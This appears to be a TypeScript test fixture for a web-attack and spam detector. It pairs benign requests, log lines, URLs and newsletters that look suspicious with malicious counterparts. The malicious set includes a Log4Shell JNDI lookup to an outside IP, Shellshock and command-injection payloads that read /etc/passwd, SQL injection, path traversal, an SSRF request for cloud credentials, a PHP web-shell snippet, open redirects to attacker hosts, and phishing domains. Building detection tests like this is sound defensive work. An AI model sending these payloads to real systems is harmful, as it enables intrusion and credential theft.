import type { Named } from './index.ts';

const message = (type: string, body: string, more = ''): string =>
  `POST /v1/send HTTP/1.1\r\nHost: api.site.example\r\nContent-Type: ${type}\r\n${more}\r\n${body}`;
const get = (target: string, more = ''): string =>
  `GET ${target} HTTP/1.1\r\nHost: www.site.example\r\nAccept: text/html\r\n${more}\r\n`;
const search = (words: string): string => get(`/search?q=${encodeURIComponent(words)}`);
const from = (referer: string): string => get('/article', `Referer: ${referer}\r\n`);

/** Bytes that look rolled, the same each time. */
function bytes(seed: number, length: number): string {
  let state = seed;
  let text = '';
  for (let at = 0; at < length; at++) {
    state = (state * 1_103_515_245 + 12_345) & 0x7fffffff;
    text += String.fromCharCode((state >> 16) & 255);
  }
  return text;
}
const PROTOBUF = `\b\0\u0012\u0007testing\u001a\u0003\0\0\0%\0\0\u0080?`;
const GRPC = `\0\0\0\0\f\n\u0005alice\u0010\u0001\u0018\0"\0`;
const rows = (times: number, row: (index: number) => object): string =>
  JSON.stringify({ rows: Array.from({ length: times }, (_, index) => row(index)) });

const line = (target: string): string =>
  `203.0.113.9 - - [12/Nov/2026:09:14:33 +0000] "GET ${target} HTTP/1.1" 404 512 "-" "Mozilla/5.0"`;
const metadata = (target: string): string =>
  `2026-11-12 09:14:33.210 2931 INFO nova.metadata.wsgi.server [req-1f0c - - - - -] 10.0.3.17,10.0.0.5 "GET ${target} HTTP/1.1" status: 200 len: 1671 time: 0.2310`;
const apache = (text: string): string =>
  `[Thu Nov 12 09:14:33.210 2026] [core:error] [pid 99] [client 203.0.113.9:40000] ${text}`;
const nginx = (text: string, target: string): string =>
  `2026/11/12 09:14:33 [error] 12#12: *31 ${text}, client: 203.0.113.9, server: _, request: "GET ${target} HTTP/1.1", host: "198.51.100.3"`;

const addresses = (...list: readonly string[]): Named =>
  Object.fromEntries(list.map((address) => [address, address]));
const newsletter = (text: string): string =>
  `${text} https://shop.example.com/new https://shop.example.com/recipes https://shop.example.com/stores Terms apply. Unsubscribe`;

type ByType = Readonly<Record<'request' | 'log' | 'url' | 'text', Named>>;

/** Ordinary traffic and texts that were taken for attacks, by kind. */
export const CLEAN_MISREAD: ByType = {
  request: {
    'bytes: a call by gRPC': message('application/grpc', GRPC),
    'bytes: several messages of a page': message('application/grpc-web+proto', GRPC + GRPC),
    'bytes: a message without its type': message('text/plain;charset=UTF-8', PROTOBUF),
    'bytes: packed by gzip': message('application/json', bytes(3, 400), 'Content-Encoding: gzip\r\n'),
    'bytes: measurements': message('application/x-protobuf', bytes(15, 700), 'Content-Encoding: snappy\r\n'),
    'bytes: traces as MessagePack': message('application/msgpack', bytes(7, 300)),
    'bytes: decoded as if they were a text': message(
      'application/x-protobuf',
      '\n\u0010\0\u0012\u0007service\u001a\0\ufffd\ufffd\0\u0001\u0002 $(\ufffd\0',
    ),
    'bytes: with the beginning of a tag': message(
      'application/octet-stream',
      `${bytes(21, 500)}<?O\u0081${bytes(23, 400)}`,
    ),
    'many fields: kinds of pets': message(
      'application/json',
      rows(130, (id) => ({ id, name: 'view', type: 'cat', text: 'a & b' })),
    ),
    'many fields: calls': message(
      'application/json',
      rows(150, (at) => ({ op: 'echo', host: 'example', at, who: 'set' })),
    ),
    'many fields: titles': message(
      'application/json',
      rows(180, (at) => ({ title: `Tom & Jerry; Cat ${at}`, sort: 'desc', find: 'more' })),
    ),
    'many fields: events': message(
      'application/json',
      rows(200, (at) => ({ level: 'log', id: `${at}`, cut: 'head', message: `GET /a/${at} & done` })),
    ),
    'many fields: parts of a page': message(
      'application/json',
      rows(160, (at) => ({ n: `https://cdn.site.example/${at}.js?x=1&y=2`, t: 'script', q: 'a=1;b=2' })),
    ),
    'search: injection in Chinese': get(`/s?wd=${encodeURIComponent('sql注入 and 1=1 原理')}`),
    'search: a statement in Korean': search('select * from 문법'),
    'search: a statement in Arabic': search('شرح select from where في sql'),
    'search: a clause in Turkish': get(`/ara?q=${encodeURIComponent('group by having nedir')}`),
    'search: a clause in Russian': search('как работает union select в mysql'),
    'search: asked before': from('https://www.site.example/search?q=mysql%20union%20select%20null%20example'),
    'search: asked before in Russian': from(
      `https://forum.site.example/search.php?keywords=${encodeURIComponent('union select инъекция как защититься')}`,
    ),
    'search: asked an engine': from("https://www.google.com/search?q=sql%20'%20or%20'1'='1%20meaning"),
    'reference: a page that is counted': get('/collect?dl=%2F%2Fwww.site.example%2Fpage&dr=%2F%2Ft.co%2Fabc'),
    'reference: a picture that counts': get('/pixel.gif?u=//cdn.site.example/a/b&ref=//m.site.example/'),
    'reference: a page of a cart': message(
      'application/x-www-form-urlencoded',
      'url=%2F%2Fwww.site.example%2Fcart&origin=%2F%2Fwww.site.example',
    ),
    'reference: files of a page': message(
      'application/json',
      JSON.stringify({ page: '//www.site.example/shop/item', img: '//cdn.site.example/x' }),
    ),
    'reference: styles': get('/log?resource=//fonts.site.example/css?family=Roboto'),
    'signs: every element': get('/find?xpath=%2F%2F*'),
    'signs: every element, as a selector': get('/q?sel=//*&n=1'),
    'signs: every file': get('/match?glob=src%2F%2F*&x=//*.js'),
    'signs: the beginning of a tag': get('/t?d=ab%3C%3FOcd'),
    'signs: letters of base64': get('/assets/qx/2/app.js?v=qx/2'),
    'signs: letters of base64 in a cookie': get('/', 'Cookie: sid=Zm9v/qx/2Bar=; x=(qx/2)\r\n'),
  },
  log: {
    'metadata: all': metadata('/latest/meta-data/'),
    'metadata: one machine': metadata('/latest/meta-data/instance-id'),
    'metadata: keys': metadata('/latest/meta-data/public-keys/0/openssh-key'),
    'metadata: an agent':
      '2026-11-12 09:14:33.210 2931 INFO neutron.agent.metadata.agent [-] 10.0.3.17 - - "GET /latest/meta-data/local-ipv4 HTTP/1.1" 200 127 0.0310',
    'metadata: of old':
      '2026-11-12 09:14:33.210 INFO nova.api.ec2 [-] 0.003s 169.254.169.254 GET /latest/meta-data/ None:None 200 [Python-urllib/2.7] text/plain text/html',
    'metadata: by a proxy':
      '1731402873.210 3 10.0.0.9 TCP_MISS/200 512 GET http://169.254.169.254/latest/meta-data/iam/info - HIER_DIRECT/169.254.169.254 text/plain',
    'server: a picture is missing': apache('File does not exist: /var/www/html/favicon.ico'),
    'server: an old page is missing': apache(
      "script '/var/www/html/old-page.php' not found or unable to stat",
    ),
    'server: a path with a percent sign': apache('AH10244: invalid URI path (/downloads/100%)'),
    'server: a logo is missing': nginx(
      'open() "/var/www/html/img/logo.png" failed (2: No such file or directory)',
      '/img/logo.png',
    ),
    'server: a command is missing': apache('AH01215: /bin/bash: line 1: foo: command not found'),
    'segment: names of people': line('/wiki/O%27Brien_or_O%27Neill'),
    'segment: music': line('/tag/rock%20and%20roll'),
    'segment: parameters of a map': line('/map/tiles;type=cat;sort=id/3/4'),
  },
  url: addresses(
    'https://s3.cn-north-1.amazonaws.com.cn/my-bucket/file.zip',
    'https://ec2.cn-northwest-1.amazonaws.com.cn/',
    'https://signin.amazonaws-us-gov.com/oauth',
    'https://github.githubassets.com/assets/app-1a2b3c.js',
    'https://www.google-analytics.com/analytics.js',
    'https://region1.google-analytics.com/g/collect?v=2',
    'https://www.googleadservices.com/pagead/conversion.js',
    'https://login.partner.microsoftonline.cn/common',
    'https://m.media-amazon.com/images/I/x.jpg',
    'https://cvws.icloud-content.com/B/x',
  ),
  text: {
    'newsletter: a shop': newsletter('Free shipping on orders over €50 until Sunday.'),
    'newsletter: a museum': newsletter('Free entry this Friday! Guided tours cost $5.'),
    'newsletter: a program': newsletter('The free plan has 10 projects; paid plans start at $9 per month.'),
    'newsletter: a bank': newsletter('No fees on transfers up to £500. Questions? +44 20 7946 0000.'),
    'newsletter: a charity': newsletter('Thank you for your gift of $25. Free to attend: our open day.'),
    'newsletter: a conference': newsletter('URGENT: only 3 days left! Early tickets $99, students free.'),
    'newsletter: in German': newsletter('Nur heute: gratis Versand, 10 € Gutschein.'),
  },
};

/** The same words and forms where they harm. */
export const MALICIOUS_MISREAD: ByType = {
  request: {
    'bytes: a null byte before an ending': get('/dl.php?f=report.php%00.pdf'),
    'bytes: a null byte in a document': message(
      'application/json',
      JSON.stringify({ file: '../../config.php\0.png' }),
    ),
    'bytes: an object of Java': message(
      'application/x-java-serialized-object',
      '\u00ac\u00ed\0\u0005sr\0\u0017java.util.PriorityQueue\u0094\u00da\0\u0002',
    ),
    'bytes: a lookup among them': message(
      'application/octet-stream',
      `${bytes(31, 200)}\${jndi:ldap://203.0.113.9/a}`,
    ),
    'bytes: a command in place of them': message(
      'application/octet-stream',
      `() { :; }; /bin/${'bash'} -c "cat /etc/passwd"`,
    ),
    'many fields: a command behind them': message(
      'application/json',
      JSON.stringify({
        rows: Array.from({ length: 450 }, (_, at) => ({ [`a${at}`]: 'x' })),
        z: '1; cat /etc/passwd',
      }),
    ),
    'search: an injection': search("1' UNION SELECT null,user() -- "),
    'search: a condition': search("x' or '1'='1"),
    'search: an injection asked before': from('https://site.example/?id=1%27%20or%20sleep(5)%20--%20'),
    'reference: a visitor is sent away': get('/login?next=%2F%2Fevil.example'),
    'reference: a visitor is sent back': get('/logout?return_to=//attacker.example/phish'),
    'signs: elements of all users': get(`/u?name=${encodeURIComponent("x'] | //user/* | //*['")}`),
    'signs: a command of Perl': get(`/x?c=${encodeURIComponent('print qx{id}')}`),
    'signs: a short tag': message('text/plain', `<?${'system'}($_GET[0]);`),
  },
  log: {
    'metadata: by a parameter': line(
      '/proxy?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    ),
    'server: a path that is refused': apache(
      'AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh)',
    ),
    'server: a path that is refused, encoded twice': apache(
      'AH10244: invalid URI path (/icons/.%%32%65/.%%32%65/etc/passwd)',
    ),
    'server: a login that is missing': apache(
      "script '/var/www/html/wp-login.php' not found or unable to stat",
    ),
    'server: a database tool that is missing': apache(
      'File does not exist: /var/www/html/phpmyadmin/scripts/setup.php',
    ),
    'server: a folder that is refused': apache(
      'AH01630: client denied by server configuration: /var/www/html/.git/config',
    ),
    'server: a plugin that is missing': nginx(
      'FastCGI sent in stderr: "Primary script unknown" while reading response header from upstream',
      '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
    ),
    'server: a function in a header': apache(
      'AH01215: /bin/bash: warning: HTTP_USER_AGENT: ignoring function definition attempt',
    ),
    'server: a function in a cookie': apache(
      "AH01215: bash: error importing function definition for `HTTP_COOKIE'",
    ),
    'segment: SQL': line('/news/-1+union+select+1,2,user()--+/'),
    'segment: columns counted': line('/item/5%27%20order%20by%2010--%20-/view'),
    'segment: a condition': line('/item/5%20and%201=1/'),
    'segment: a command': line('/ping/127.0.0.1;cat%20/etc/passwd'),
    'segment: a template': line('/hello/%7B%7B7*7%7D%7D/x'),
  },
  url: addresses('https://github-assets-login.com/signin', 'https://amazon-aws-login.com/verify'),
  text: {
    'newsletter: a prize by SMS':
      'URGENT! You have won a £1000 cash prize. To claim call 09061701461 now. Terms apply, 150p per msg.',
    'newsletter: a casino':
      'Best online casino bonus! 200 free spins, deposit $10 and win big https://casino-1xbet.top/join',
  },
};
